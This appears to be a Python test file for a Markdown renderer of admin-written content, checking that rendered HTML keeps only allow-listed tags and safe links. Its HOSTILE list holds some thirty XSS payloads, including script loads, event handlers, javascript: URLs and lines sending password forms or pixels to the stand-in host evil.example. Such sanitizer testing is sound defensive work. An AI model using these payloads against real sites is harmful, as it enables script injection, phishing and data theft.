"""What admins write is shown to everybody: nothing in it may run, load from elsewhere, or pretend."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.content.markdown import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '[x](https://example.com "onmouseover=alert(1)")',
    '[x](https://example.com" onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\x00<script>alert(1)</script>",
]
TAG = re.compile(r"<[^>]*>")
ALLOWED = re.compile(
    r"</?(blockquote|br|code|del|em|h[1-6]|hr|li|p|pre|s|strong|table|tbody|td|th|thead|tr|ul|ol)>"
    r'|<ol start="\d+">|</a>'
    r'|<a (href="(https?:|mailto:|/|#|[^":]*")[^"]*"? ?|title="[^"]*" ?|rel="noopener noreferrer nofollow" ?)+>'
    r'|<img (src="/(?![/\\])[^"]*" ?|alt="[^"]*" ?|title="[^"]*" ?)*>'
)


def assert_harmless(html: str) -> None:
    for tag in TAG.findall(html):
        assert ALLOWED.fullmatch(tag), (tag, html)


@pytest.mark.parametrize("sample", HOSTILE)
def test_nothing_hostile_is_left(sample: str) -> None:
    assert_harmless(render(f"前文 {sample} 后文"))
    assert_harmless(render(sample))


@given(st.text(alphabet=st.sampled_from("<>\"'()[]!/:#`*&;= \n\tjavscriptonhefmg1x"), max_size=60))
def test_no_text_whatever_makes_anything_else_than_known_tags(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("**重要**", "<strong>重要</strong>"),
        ("1. 认证\n2. 领券", "<ol>\n<li>认证</li>\n<li>领券</li>\n</ol>"),
        ("| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
        ("[通知](https://example.com/a)", 'href="https://example.com/a"'),
        ("[附件](/uploads/abc)", 'href="/uploads/abc"'),
        ("![图](/uploads/abc)", '<img src="/uploads/abc" alt="图">'),
        ("a < b & c", "a &lt; b &amp; c"),
    ],
)
def test_what_is_meant_well_is_shown(written: str, shown: str) -> None:
    assert shown in render(written)


def test_links_out_do_not_tell_where_they_come_from() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.com)")
